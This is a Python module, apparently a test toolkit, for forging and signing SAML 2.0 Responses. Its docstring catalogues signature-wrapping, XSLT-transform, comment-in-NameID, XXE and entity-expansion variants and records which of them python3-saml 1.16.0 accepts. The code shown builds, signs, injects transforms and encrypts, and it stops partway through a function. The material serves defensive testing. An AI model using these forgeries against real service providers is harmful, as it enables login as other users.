"""Forge SAML 2.0 Responses the way an IdP does, sign them, and derive the malicious variants.

This is the toolkit behind the SAML attack tests of our service provider (built on
python3-saml). It builds a Response with one Assertion from a :class:`ResponseSpec`
(defaults form a VALID response for the test SP below), signs it with enveloped
XML-DSig (exclusive c14n, Signature right after the Issuer, ``Reference URI="#ID"``)
through the ``xmlsec`` bindings, optionally encrypts the Assertion for the SP, and
derives every malicious variant an attacker would try:

* the eight XML Signature Wrapping attacks XSW1-XSW8, as defined by SAMLRaider
  (``XSWHelpers.applyXSW1..8``) after "On Breaking SAML: Be Whoever You Want to Be"
  (Somorovsky, Mayer, Schwenk, Kampmann, Jensen; USENIX Security 2012);
* stripped, emptied, foreign-key and misplaced signatures, deprecated algorithms and
  extra Reference transforms (XPath, XSLT);
* the comment-in-NameID truncation (CVE-2017-11427 family, Duo Labs 2018);
* DTDs: internal entities, billion laughs, external entities (XXE);
* duplicate attributes and a tampered EncryptedAssertion.

Every function takes and returns plain bytes (or an lxml element where noted), never
mutates its input, and is deterministic given its inputs, except for what is random
by nature: fresh IDs and the now-based default instants of a :class:`ResponseSpec`,
key generation, ECDSA signatures, and the session key / IV of an encryption.
RSA PKCS#1 v1.5 signatures of the same bytes are byte-identical.

What bare python3-saml 1.16.0 does with each variant
=====================================================

Verified by ``test_python3_saml_verdict`` in ``tests/test_saml_forge.py``, whose
``TABLE`` has one case per row below (same ids). Settings: strict,
``wantAssertionsSigned``, ``rejectDeprecatedAlgorithm``; rows marked (r) use a
response signature and ``wantAssertionsSigned`` False. "raises" means the
``OneLogin_Saml2_Response`` *constructor* raises before ``is_valid`` runs: the SP
must catch that and treat it as a refusal. ACCEPTED in capitals marks what the SP has
to refuse by itself.

==========================================  ==============================================
Row                                         python3-saml 1.16.0
==========================================  ==============================================
valid-assertion-signed                      accepted
valid-response-signed (r)                   accepted
valid-both-signed                           accepted
valid-no-keyinfo                            accepted (the configured cert is used)
valid-encrypted                             accepted (aes128-cbc + rsa-oaep, SP key)
valid-encrypted-aes256-gcm                  accepted
valid-ec-ecdsa-sha256                       accepted (EC IdP cert configured)
xsw1 (r), xsw2 (r)                          refused: "SAML Response must contain 1
xsw3, xsw4, xsw5, xsw6, xsw7, xsw8          assertion" (bare xmlsec still verifies
                                            XSW2-XSW5: only that count stops them)
strip-signature                             refused: assertion not signed
strip-signature-no-assertion-wanted         refused: "No Signature found"
empty-signature-value                       refused: signature validation failed
empty-signature                             refused: schema (Signature needs SignedInfo)
response-signed-only                        refused: assertion not signed
reference-elsewhere (r)                     refused: "Found an invalid Signed Element"
replace-keyinfo                             refused: signature validation failed
                                            (KeyInfo is ignored)
rsa-sha1, digest-sha1                       refused: deprecated algorithm
name-id-changed-after-signing               refused: signature validation failed
comment-in-name-id                          accepted as ``E1001.evil``, in full: its
                                            parser drops comments (no truncation)
xpath-transform-signed                      ACCEPTED: no restriction on transforms
xslt-transform-signed                       ACCEPTED: the XSLT runs inside xmlsec
xslt-discarding-input-then-name-id-changed  ACCEPTED with the changed NameID: the
                                            signed digest no longer covers the document
xslt-injected-after-signing                 refused: signature validation failed, but
                                            only after running the attacker's XSLT
                                            (xmlsec's XSLT sandbox refuses file and
                                            network reads; CPU is not limited)
doctype-internal-entity                     raises DTDForbidden (checked after parsing)
billion-laughs                              raises lxml XMLSyntaxError: libxml2's entity
                                            amplification limit fires while parsing,
                                            before the DTD ban is checked
xxe-external-entity                         raises DTDForbidden (the parser does not
                                            resolve entities nor use the network anyway)
duplicate-attribute                         ACCEPTED by is_valid; get_attributes() then
                                            raises "duplicated Name" (merges them if
                                            ``allowRepeatAttributeName``)
tamper-encrypted-data, tamper-encrypted-key  raises xmlsec.Error "failed to decrypt"
no-audience-restriction                     ACCEPTED (the element is optional)
no-subject-confirmation-not-on-or-after     ACCEPTED (the Web SSO profile requires it)
no-recipient                                ACCEPTED (the Web SSO profile requires it)
recipient-containing-acs-url                ACCEPTED: Recipient is a substring test
no-destination                              ACCEPTED
destination-prefixed-by-acs-url             ACCEPTED: Destination is a prefix test
unsolicited-while-request-pending           ACCEPTED: no InResponseTo passes any
                                            request_id
in-response-to-other-request                refused
expired, not-yet-valid                      refused (with 300 s of allowed clock drift)
wrong-audience, wrong-issuer                refused
status-responder                            refused: "was not Success"
==========================================  ==============================================

So an SP on python3-saml must itself: refuse every Reference transform but
enveloped-signature and exclusive c14n *before* the library runs; catch constructor
exceptions; refuse repeated attributes (or always call ``get_attributes``); require an
AudienceRestriction naming it, a Recipient equal to its ACS URL, a Destination equal
to it, SubjectConfirmationData NotOnOrAfter, and InResponseTo when it sent a request.
"""

from __future__ import annotations

import base64
import copy
import datetime as dt
import secrets
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, Literal, NamedTuple, TypeAlias

import xmlsec
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import NameOID
from lxml import etree
from xmlsec import constants as xc

# --------------------------------------------------------------------------- constants

NS_SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
NS_SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
NS_DS = "http://www.w3.org/2000/09/xmldsig#"
NS_XENC = "http://www.w3.org/2001/04/xmlenc#"
NS_XS = "http://www.w3.org/2001/XMLSchema"
NS_XSI = "http://www.w3.org/2001/XMLSchema-instance"
NS_XSL = "http://www.w3.org/1999/XSL/Transform"
NSMAP: dict[str, str] = {
    "samlp": NS_SAMLP,
    "saml": NS_SAML,
    "ds": NS_DS,
    "xenc": NS_XENC,
}

STATUS_SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
STATUS_REQUESTER = "urn:oasis:names:tc:SAML:2.0:status:Requester"
STATUS_RESPONDER = "urn:oasis:names:tc:SAML:2.0:status:Responder"
NAMEID_PERSISTENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent"
NAMEID_TRANSIENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:transient"
NAMEID_EMAIL = "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress"
NAMEID_UNSPECIFIED = "urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified"
ATTRNAME_FORMAT_URI = "urn:oasis:names:tc:SAML:2.0:attrname-format:uri"
ATTRNAME_FORMAT_BASIC = "urn:oasis:names:tc:SAML:2.0:attrname-format:basic"
CM_BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"
AC_PASSWORD_PROTECTED = "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"

#: The test SP the default spec is valid for (matches the settings of the tests).
SP_ENTITY_ID = "http://127.0.0.1:9/saml/t/metadata"
SP_ACS_URL = "http://127.0.0.1:9/saml/t/acs"
IDP_ENTITY_ID = "https://idp.example.test/saml/metadata"

#: xmlsec transforms, re-exported so that tests need not import xmlsec themselves.
XmlsecTransform: TypeAlias = "xc.__Transform"  # xmlsec has no public name for it
RSA_SHA256: XmlsecTransform = xc.TransformRsaSha256
RSA_SHA384: XmlsecTransform = xc.TransformRsaSha384
RSA_SHA512: XmlsecTransform = xc.TransformRsaSha512
RSA_SHA1: XmlsecTransform = xc.TransformRsaSha1  # deprecated: must be refused
ECDSA_SHA256: XmlsecTransform = xc.TransformEcdsaSha256
SHA256: XmlsecTransform = xc.TransformSha256
SHA512: XmlsecTransform = xc.TransformSha512
SHA1: XmlsecTransform = xc.TransformSha1  # deprecated: must be refused
ENVELOPED: XmlsecTransform = xc.TransformEnveloped
EXCL_C14N: XmlsecTransform = xc.TransformExclC14N
EXCL_C14N_COMMENTS: XmlsecTransform = xc.TransformExclC14NWithComments
XPATH: XmlsecTransform = xc.TransformXPath
XSLT: XmlsecTransform = xc.TransformXslt
AES128_CBC: XmlsecTransform = xc.TransformAes128Cbc
AES256_CBC: XmlsecTransform = xc.TransformAes256Cbc
AES128_GCM: XmlsecTransform = xc.TransformAes128Gcm
AES256_GCM: XmlsecTransform = xc.TransformAes256Gcm
RSA_OAEP: XmlsecTransform = xc.TransformRsaOaep

XmlInput: TypeAlias = "bytes | str | etree._Element"
Target: TypeAlias = Literal["assertion", "response"]

#: Attribute names of the default spec (eduPerson/inetOrgPerson OIDs, as IdPs send them).
ATTR_MAIL = "urn:oid:0.9.2342.19200300.100.1.3"
ATTR_DISPLAY_NAME = "urn:oid:2.16.840.1.113730.3.1.241"
ATTR_AFFILIATION = "urn:oid:1.3.6.1.4.1.5923.1.1.1.9"


def _q(ns: str, local: str) -> str:
    """Clark notation ``{ns}local``."""
    return f"{{{ns}}}{local}"


# --------------------------------------------------------------------------- keys


def self_signed(
    key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey, cn: str, days: int
) -> x509.Certificate:
    """A self-signed SHA-256 certificate for ``key``: subject and issuer ``CN=<cn>``,
    not a CA, valid from one day ago for ``days`` days."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn)])
    now = dt.datetime.now(dt.UTC)
    return (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=days))
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )


class KeyPair(NamedTuple):
    """A private key and its self-signed certificate, both PEM."""

    key_pem: bytes
    cert_pem: bytes

    @property
    def cert_b64(self) -> str:
        """The certificate as bare base64 (what an ``x509cert`` setting or KeyInfo holds)."""
        lines = self.cert_pem.decode("ascii").strip().splitlines()
        return "".join(line for line in lines if not line.startswith("-----"))


class TestKeys:
    """Generate throw-away signing and encryption keys with self-signed certificates."""

    __test__ = False  # not a pytest test class

    @staticmethod
    def generate(
        cn: str = "saml-forge test IdP",
        kind: Literal["rsa", "ec"] = "rsa",
        *,
        days: int = 3650,
    ) -> KeyPair:
        """Return a fresh key (RSA 2048, or EC P-256 with ``kind="ec"``) and a cert for it.

        The certificate is self-signed with SHA-256, subject and issuer ``CN=<cn>``,
        valid from one day ago for ``days`` days.
        """
        key: rsa.RSAPrivateKey | ec.EllipticCurvePrivateKey
        if kind == "rsa":
            key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
        elif kind == "ec":
            key = ec.generate_private_key(ec.SECP256R1())
        else:
            raise ValueError(f"unknown key kind {kind!r}")
        cert = self_signed(key, cn, days)
        key_pem = key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
        return KeyPair(key_pem, cert.public_bytes(serialization.Encoding.PEM))


# --------------------------------------------------------------------------- spec


def new_id() -> str:
    """A fresh SAML ID: ``_`` followed by 40 hex digits (an xs:ID must not start with a digit)."""
    return "_" + secrets.token_hex(20)


def saml_instant(value: dt.datetime) -> str:
    """Format an instant as SAML's xs:dateTime in UTC, ``2024-01-31T12:00:00Z``."""
    if value.tzinfo is None:
        value = value.replace(tzinfo=dt.UTC)
    return value.astimezone(dt.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def _now() -> dt.datetime:
    return dt.datetime.now(dt.UTC).replace(microsecond=0)


def _default_attributes() -> dict[str, list[str]]:
    return {
        ATTR_MAIL: ["e1001@example.test"],
        ATTR_DISPLAY_NAME: ["Erin Example"],
        ATTR_AFFILIATION: ["member", "staff"],
    }


def _default_friendly_names() -> dict[str, str]:
    return {
        ATTR_MAIL: "mail",
        ATTR_DISPLAY_NAME: "displayName",
        ATTR_AFFILIATION: "eduPersonAffiliation",
    }


@dataclass
class ResponseSpec:
    """Everything an IdP puts in a Response; the defaults form a VALID one for the test SP.

    Instants left as ``None`` are filled in from ``issue_instant`` (itself "now" by
    default): NotBefore = issue - 60 s, NotOnOrAfter and the SubjectConfirmationData
    NotOnOrAfter = issue + 300 s, AuthnInstant = issue. Use :func:`dataclasses.replace`
    to derive a variant; it keeps the filled-in instants and IDs.
    """

    issuer: str = IDP_ENTITY_ID
    #: Issuer of the Assertion; None means the same as ``issuer``.
    assertion_issuer: str | None = None
    #: Whether the Response (not the Assertion) carries an Issuer; optional in SAML.
    include_response_issuer: bool = True
    destination: str | None = SP_ACS_URL
    in_response_to: str | None = None
    #: Audience values of the one AudienceRestriction; None means no AudienceRestriction.
    audience: list[str] | None = field(default_factory=lambda: [SP_ENTITY_ID])
    recipient: str | None = SP_ACS_URL
    name_id: str = "E1001"
    name_id_format: str | None = NAMEID_PERSISTENT
    name_qualifier: str | None = None
    sp_name_qualifier: str | None = None
    #: Attribute Name -> values, in order; an empty dict means no AttributeStatement.
    attributes: dict[str, list[str]] = field(default_factory=_default_attributes)
    #: Attribute Name -> FriendlyName, for the names that have one.
    friendly_names: dict[str, str] = field(default_factory=_default_friendly_names)
    attribute_name_format: str | None = ATTRNAME_FORMAT_URI
    status: str = STATUS_SUCCESS
    status_message: str | None = None
    response_id: str = field(default_factory=new_id)
    assertion_id: str = field(default_factory=new_id)
    issue_instant: dt.datetime = field(default_factory=_now)
    not_before: dt.datetime | None = None
    not_on_or_after: dt.datetime | None = None
    sc_not_on_or_after: dt.datetime | None = None
    authn_instant: dt.datetime | None = None
    session_not_on_or_after: dt.datetime | None = None
    session_index: str | None = field(default_factory=new_id)
    authn_context_class_ref: str = AC_PASSWORD_PROTECTED
    subject_confirmation_method: str = CM_BEARER
    include_subject_confirmation_not_on_or_after: bool = True
    include_conditions: bool = True
    include_authn_statement: bool = True
    version: str = "2.0"

    def __post_init__(self) -> None:
        issued = self.issue_instant
        if self.not_before is None:
            self.not_before = issued - dt.timedelta(seconds=60)
        if self.not_on_or_after is None:
            self.not_on_or_after = issued + dt.timedelta(seconds=300)
        if self.sc_not_on_or_after is None:
            self.sc_not_on_or_after = issued + dt.timedelta(seconds=300)
        if self.authn_instant is None:
            self.authn_instant = issued


# --------------------------------------------------------------------------- building


def build_response(spec: ResponseSpec) -> etree._Element:
    """Build the unsigned ``samlp:Response`` with one ``saml:Assertion`` described by ``spec``.

    Layout and namespaces follow what IdPs such as Shibboleth or Keycloak emit: the
    Response declares ``samlp`` and ``saml``; the Assertion declares ``saml``, ``xs``
    and ``xsi`` again, so that it stays self-contained when cut out (signed alone,
    encrypted). Child order follows the schema: Issuer, (Signature), Status, Assertion;
    and Issuer, (Signature), Subject, Conditions, AuthnStatement, AttributeStatement.
    """
    response = etree.Element(_q(NS_SAMLP, "Response"), nsmap={"samlp": NS_SAMLP, "saml": NS_SAML})
    response.set("ID", spec.response_id)
    response.set("Version", spec.version)
    response.set("IssueInstant", saml_instant(spec.issue_instant))
    if spec.destination is not None:
        response.set("Destination", spec.destination)
    if spec.in_response_to is not None:
        response.set("InResponseTo", spec.in_response_to)
    if spec.include_response_issuer:
        etree.SubElement(response, _q(NS_SAML, "Issuer")).text = spec.issuer

    status = etree.SubElement(response, _q(NS_SAMLP, "Status"))
    etree.SubElement(status, _q(NS_SAMLP, "StatusCode")).set("Value", spec.status)
    if spec.status_message is not None:
        etree.SubElement(status, _q(NS_SAMLP, "StatusMessage")).text = spec.status_message

    # Splice the Assertion in as text and re-parse: appending the element would make
    # lxml drop its (redundant) xmlns:saml declaration, which IdPs do emit.
    head = etree.tostring(response)
    closing = b"</samlp:Response>"
    if not head.endswith(closing):
        raise AssertionError("unexpected serialization of the Response")
    body = head[: -len(closing)] + etree.tostring(_build_assertion(spec)) + closing
    return etree.fromstring(body, _parser())


def _build_assertion(spec: ResponseSpec) -> etree._Element:
    assert spec.not_before and spec.not_on_or_after and spec.sc_not_on_or_after
    assert spec.authn_instant
    assertion = etree.Element(
        _q(NS_SAML, "Assertion"), nsmap={"saml": NS_SAML, "xs": NS_XS, "xsi": NS_XSI}
    )
    assertion.set("ID", spec.assertion_id)
    assertion.set("Version", spec.version)
    assertion.set("IssueInstant", saml_instant(spec.issue_instant))
    etree.SubElement(assertion, _q(NS_SAML, "Issuer")).text = (
        spec.assertion_issuer if spec.assertion_issuer is not None else spec.issuer
    )

    subject = etree.SubElement(assertion, _q(NS_SAML, "Subject"))
    name_id = etree.SubElement(subject, _q(NS_SAML, "NameID"))
    for attr, value in (
        ("Format", spec.name_id_format),
        ("NameQualifier", spec.name_qualifier),
        ("SPNameQualifier", spec.sp_name_qualifier),
    ):
        if value is not None:
            name_id.set(attr, value)
    name_id.text = spec.name_id
    confirmation = etree.SubElement(subject, _q(NS_SAML, "SubjectConfirmation"))
    confirmation.set("Method", spec.subject_confirmation_method)
    data = etree.SubElement(confirmation, _q(NS_SAML, "SubjectConfirmationData"))
    if spec.in_response_to is not None:
        data.set("InResponseTo", spec.in_response_to)
    if spec.include_subject_confirmation_not_on_or_after:
        data.set("NotOnOrAfter", saml_instant(spec.sc_not_on_or_after))
    if spec.recipient is not None:
        data.set("Recipient", spec.recipient)

    if spec.include_conditions:
        conditions = etree.SubElement(assertion, _q(NS_SAML, "Conditions"))
        conditions.set("NotBefore", saml_instant(spec.not_before))
        conditions.set("NotOnOrAfter", saml_instant(spec.not_on_or_after))
        if spec.audience is not None:
            restriction = etree.SubElement(conditions, _q(NS_SAML, "AudienceRestriction"))
            for audience in spec.audience:
                etree.SubElement(restriction, _q(NS_SAML, "Audience")).text = audience

    if spec.include_authn_statement:
        authn = etree.SubElement(assertion, _q(NS_SAML, "AuthnStatement"))
        authn.set("AuthnInstant", saml_instant(spec.authn_instant))
        if spec.session_index is not None:
            authn.set("SessionIndex", spec.session_index)
        if spec.session_not_on_or_after is not None:
            authn.set("SessionNotOnOrAfter", saml_instant(spec.session_not_on_or_after))
        context = etree.SubElement(authn, _q(NS_SAML, "AuthnContext"))
        etree.SubElement(
            context, _q(NS_SAML, "AuthnContextClassRef")
        ).text = spec.authn_context_class_ref

    if spec.attributes:
        statement = etree.SubElement(assertion, _q(NS_SAML, "AttributeStatement"))
        for name, values in spec.attributes.items():
            statement.append(
                _build_attribute(
                    name, values, spec.friendly_names.get(name), spec.attribute_name_format
                )
            )
    return assertion


def _build_attribute(
    name: str, values: Iterable[str], friendly_name: str | None, name_format: str | None
) -> etree._Element:
    attribute = etree.Element(_q(NS_SAML, "Attribute"))
    attribute.set("Name", name)
    if name_format is not None:
        attribute.set("NameFormat", name_format)
    if friendly_name is not None:
        attribute.set("FriendlyName", friendly_name)
    for value in values:
        node = etree.SubElement(attribute, _q(NS_SAML, "AttributeValue"))
        node.set(_q(NS_XSI, "type"), "xs:string")
        node.text = value
    return attribute


# --------------------------------------------------------------------------- parsing


def _parser() -> etree.XMLParser:
    # Keep comments (the NameID attack needs them); never touch DTDs or the network.
    return etree.XMLParser(
        resolve_entities=False, no_network=True, remove_blank_text=False, load_dtd=False
    )


def parse(xml: XmlInput) -> etree._Element:
    """Parse ``xml`` into a NEW tree (an element input is deep-copied, never mutated)."""
    if isinstance(xml, etree._Element):
        return copy.deepcopy(xml)
    data = xml.encode("utf-8") if isinstance(xml, str) else xml
    return etree.fromstring(data, _parser())


def to_bytes(xml: XmlInput) -> bytes:
    """Serialize without XML declaration and without reformatting (signatures survive)."""
    if isinstance(xml, bytes):
        return xml
    if isinstance(xml, str):
        return xml.encode("utf-8")
    return etree.tostring(xml)


def to_b64(xml: XmlInput) -> str:
    """Base64 of the serialized Response: the value of the ``SAMLResponse`` POST field."""
    return base64.b64encode(to_bytes(xml)).decode("ascii")


def _assertion(root: etree._Element) -> etree._Element:
    node = root.find(_q(NS_SAML, "Assertion"))
    if node is None:
        raise ValueError("no saml:Assertion directly under the Response")
    return node


def _target(root: etree._Element, target: Target) -> etree._Element:
    if target == "response":
        return root
    if target == "assertion":
        return _assertion(root)
    raise ValueError(f"unknown target {target!r}")


def _own_signature(elem: etree._Element) -> etree._Element | None:
    """The ds:Signature that is a direct child of ``elem``, if any."""
    return elem.find(_q(NS_DS, "Signature"))


def _set_name_id(elem: etree._Element, value: str) -> None:
    """Replace the text of every saml:NameID below ``elem`` (children such as comments too)."""
    for node in elem.iter(_q(NS_SAML, "NameID")):
        for child in list(node):
            node.remove(child)
        node.text = value


def set_name_id(xml: XmlInput, value: str) -> bytes:
    """Change every NameID to ``value`` and touch nothing else (signatures stay as they are).

    Tampering after signing: a verifier must notice the digest mismatch.
    """
    root = parse(xml)
    _set_name_id(root, value)
    return to_bytes(root)


# --------------------------------------------------------------------------- signing


@dataclass(frozen=True)
class RefTransform:
    """One ``ds:Transform`` of a Reference: an xmlsec transform plus child elements.

    ``children`` are XML fragments (bytes) appended inside the ``ds:Transform``, e.g. the
    ``ds:XPath`` of an XPath filter or the ``xsl:stylesheet`` of an XSLT transform.
    """

    transform: XmlsecTransform
    children: tuple[bytes, ...] = ()


TransformLike: TypeAlias = "XmlsecTransform | RefTransform"

#: What every SAML IdP puts in its Reference, and the only transforms an SP should allow.
DEFAULT_TRANSFORMS: tuple[RefTransform, ...] = (RefTransform(ENVELOPED), RefTransform(EXCL_C14N))


def xpath_transform(expression: str = "not(ancestor-or-self::ds:Signature)") -> RefTransform:
    """An XPath filter transform (XML-DSig 6.6.3); the default is the enveloped filter."""
    fragment = etree.Element(_q(NS_DS, "XPath"), nsmap={"ds": NS_DS})
    fragment.text = expression
    return RefTransform(XPATH, (etree.tostring(fragment),))


def xslt_transform(stylesheet: bytes | None = None) -> RefTransform:
    """An XSLT transform (XML-DSig 6.6.5); the default stylesheet is the identity copy.

    An XSLT transform lets the signed document run a program inside the verifier (the
    classic abuse reads files or fetches URLs during verification). An SP must refuse
    it before handing the document to xmlsec.
    """
    if stylesheet is None:
        stylesheet = (
            b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
            b'<xsl:template match="@*|node()"><xsl:copy>'
            b'<xsl:apply-templates select="@*|node()"/></xsl:copy></xsl:template>'
            b"</xsl:stylesheet>"
        )
    return RefTransform(XSLT, (stylesheet,))


def _as_ref_transform(value: TransformLike) -> RefTransform:
    return value if isinstance(value, RefTransform) else RefTransform(value)


def _add_transform(reference: etree._Element, transform: RefTransform) -> etree._Element:
    node = xmlsec.template.add_transform(reference, transform.transform)
    for child in transform.children:
        node.append(etree.fromstring(child, _parser()))
    return node


def _sign_element(
    root: etree._Element,
    elem: etree._Element,
    key_pem: bytes,
    cert_pem: bytes | None,
    *,
    sig_alg: XmlsecTransform = RSA_SHA256,
    digest_alg: XmlsecTransform = SHA256,
    transforms: Sequence[TransformLike] | None = None,
    include_keyinfo: bool = True,
    reference_id: str | None = None,
) -> etree._Element:
    """Put an enveloped signature into ``elem`` (after its Issuer) and sign; returns it."""
    signature = xmlsec.template.create(elem, EXCL_C14N, sig_alg, ns="ds")
    issuer = elem.find(_q(NS_SAML, "Issuer"))
    if issuer is not None:
        issuer.addnext(signature)
    else:
        elem.insert(0, signature)
    xmlsec.tree.add_ids(root, ["ID"])
    ref_id = reference_id if reference_id is not None else elem.get("ID")
    if not ref_id:
        raise ValueError("the element to sign has no ID")
    reference = xmlsec.template.add_reference(signature, digest_alg, uri="#" + ref_id)
    for transform in DEFAULT_TRANSFORMS if transforms is None else transforms:
        _add_transform(reference, _as_ref_transform(transform))
    key = xmlsec.Key.from_memory(key_pem, xc.KeyDataFormatPem, None)
    if include_keyinfo:
        key_info = xmlsec.template.ensure_key_info(signature)
        xmlsec.template.add_x509_data(key_info)
        if cert_pem is not None:
            key.load_cert_from_memory(cert_pem, xc.KeyDataFormatPem)
    ctx = xmlsec.SignatureContext()
    ctx.key = key
    ctx.sign(signature)
    return signature


def sign(
    xml: XmlInput,
    key_pem: bytes,
    cert_pem: bytes,
    *,
    target: Target = "assertion",
    sig_alg: XmlsecTransform = RSA_SHA256,
    digest_alg: XmlsecTransform = SHA256,
    transforms: Sequence[TransformLike] | None = None,
    include_keyinfo: bool = True,
) -> bytes:
    """Sign the Assertion (or the whole Response) with an enveloped XML signature.

    The ``ds:Signature`` goes right after the ``saml:Issuer`` of the signed element, as
    the SAML schema requires; CanonicalizationMethod is exclusive c14n; the one
    Reference has ``URI="#<ID>"`` and, unless ``transforms`` says otherwise, the
    transforms enveloped-signature + exclusive c14n. ``KeyInfo/X509Data`` carries the
    certificate unless ``include_keyinfo`` is False.

    ``sig_alg``/``digest_alg`` accept any xmlsec transform, including the deprecated
    :data:`RSA_SHA1` / :data:`SHA1`. ``transforms`` may hold extra transforms such as
    :func:`xpath_transform` or :func:`xslt_transform`; xmlsec executes them while
    signing, so the result is a VALID signature over the transformed data. For a
    document whose Reference names a transform that could not be signed with, see
    :func:`inject_transform`.

    To sign both, sign the assertion first, then the response.
    """
    root = parse(xml)
    elem = _target(root, target)
    if _own_signature(elem) is not None:
        raise ValueError(f"the {target} is already signed; strip_signature() it first")
    _sign_element(
        root,
        elem,
        key_pem,
        cert_pem,
        sig_alg=sig_alg,
        digest_alg=digest_alg,
        transforms=transforms,
        include_keyinfo=include_keyinfo,
    )
    return to_bytes(root)


def sign_spec(
    spec: ResponseSpec,
    keys: KeyPair,
    *,
    target: Target | Literal["both"] = "assertion",
    **options: Any,
) -> bytes:
    """Build ``spec`` and sign it: the assertion, the response, or ``"both"`` (inside out)."""
    xml: bytes = to_bytes(build_response(spec))
    if target in ("assertion", "both"):
        xml = sign(xml, keys.key_pem, keys.cert_pem, target="assertion", **options)
    if target in ("response", "both"):
        xml = sign(xml, keys.key_pem, keys.cert_pem, target="response", **options)
    return xml


def _verify_node(signature: etree._Element, cert_pem: bytes) -> bool:
    ctx = xmlsec.SignatureContext()
    ctx.key = xmlsec.Key.from_memory(cert_pem, xc.KeyDataFormatCertPem, None)
    try:
        ctx.verify(signature)
    except xmlsec.Error:
        return False
    return True


def verify_signature(xml: XmlInput, cert_pem: bytes, *, target: Target = "assertion") -> bool:
    """Check the target's own signature with xmlsec against ``cert_pem`` (a self-check).

    Registers ``ID`` as ID attribute and verifies with the given certificate only, the
    way python3-saml does; returns False instead of raising on a bad signature.
    """
    root = parse(xml)
    signature = _own_signature(_target(root, target))
    if signature is None:
        return False
    xmlsec.tree.add_ids(root, ["ID"])
    return _verify_node(signature, cert_pem)


def verify_signatures(xml: XmlInput, cert_pem: bytes) -> list[bool]:
    """Verify every ds:Signature of the document with bare xmlsec, in document order.

    This is "what the cryptography alone says", without any of the structural checks a
    SAML library adds (which element is signed, how many assertions there are). For the
    XSW variants it shows which ones only those structural checks stop.
    """
    root = parse(xml)
    xmlsec.tree.add_ids(root, ["ID"])
    return [_verify_node(sig, cert_pem) for sig in root.iter(_q(NS_DS, "Signature"))]


def inject_transform(
    signed_xml: XmlInput,
    transform: TransformLike,
    *,
    target: Target = "assertion",
    position: int | None = None,
) -> bytes:
    """Add a ``ds:Transform`` to the Reference of an ALREADY signed element.

    The SignedInfo changes, so the SignatureValue no longer matches: the result is for
    tests that the SP refuses the transform *before* it lets xmlsec run (a verifier that
    runs it executes e.g. an XSLT program of the attacker's before finding the broken
    signature). ``position`` is the index among the existing transforms (default: last).
    """
    root = parse(signed_xml)
    signature = _own_signature(_target(root, target))
    if signature is None:
        raise ValueError(f"the {target} is not signed")
    transforms = signature.find(
        f"{_q(NS_DS, 'SignedInfo')}/{_q(NS_DS, 'Reference')}/{_q(NS_DS, 'Transforms')}"
    )
    if transforms is None:
        raise ValueError("the Reference has no Transforms")
    spec = _as_ref_transform(transform)
    node = etree.Element(_q(NS_DS, "Transform"))
    node.set("Algorithm", spec.transform.href)
    for child in spec.children:
        node.append(etree.fromstring(child, _parser()))
    transforms.insert(len(transforms) if position is None else position, node)
    return to_bytes(root)


# --------------------------------------------------------------------------- encryption


def encrypt_assertion(
    xml: XmlInput,
    sp_cert_pem: bytes,
    *,
    data_alg: XmlsecTransform = AES128_CBC,
    key_transport: XmlsecTransform = RSA_OAEP,
) -> bytes:
    """Replace the (signed) Assertion by a ``saml:EncryptedAssertion`` for the SP.

    ``xenc:EncryptedData`` (Type Element, ``data_alg`` = aes128-cbc by default, or e.g.
    :data:`AES256_GCM`) with a ``ds:KeyInfo`` holding an ``xenc:EncryptedKey`` that
    transports a fresh session key with ``key_transport`` (rsa-oaep-mgf1p) under the
    SP's certificate. The session key and IV are random: two encryptions differ.
    """
    root = parse(xml)
    assertion = _assertion(root)
    wrapper = etree.Element(_q(NS_SAML, "EncryptedAssertion"))
    assertion.addprevious(wrapper)
    wrapper.append(assertion)

    enc_data = xmlsec.template.encrypted_data_create(
        root, data_alg, type=xc.TypeEncElement, ns="xenc"
    )
    xmlsec.template.encrypted_data_ensure_cipher_value(enc_data)
    key_info = xmlsec.template.encrypted_data_ensure_key_info(enc_data, ns="ds")
    enc_key = xmlsec.template.add_encrypted_key(key_info, key_transport)
    xmlsec.template.encrypted_data_ensure_cipher_value(enc_key)

    manager = xmlsec.KeysManager()
    manager.add_key(xmlsec.Key.from_memory(sp_cert_pem, xc.KeyDataFormatCertPem, None))
    ctx = xmlsec.EncryptionContext(manager)
    bits = {AES128_CBC.href: 128, AES128_GCM.href: 128}.get(data_alg.href, 256)
    ctx.key = xmlsec.Key.generate(xc.KeyDataAes, bits, xc.KeyDataTypeSession)
    ctx.encrypt_xml(enc_data, assertion)  # replaces the assertion inside the wrapper
    return to_bytes(root)


def tamper_encrypted(enc_xml: XmlInput, *, which: Literal["data", "key"] = "data") -> bytes:
    """Flip one bit in the middle of the data (or key) ``xenc:CipherValue``.

    With aes-cbc the plaintext turns to garbage or the padding check fails; with
    aes-gcm the tag check fails; a flipped EncryptedKey fails the RSA-OAEP decoding.
    Deterministic: always the same bit.
    """
    root = parse(enc_xml)
    enc_data = root.find(f"{_q(NS_SAML, 'EncryptedAssertion')}/{_q(NS_XENC, 'EncryptedData')}")
    if enc_data is None:
        raise ValueError("no EncryptedAssertion/EncryptedData")
    if which == "data":
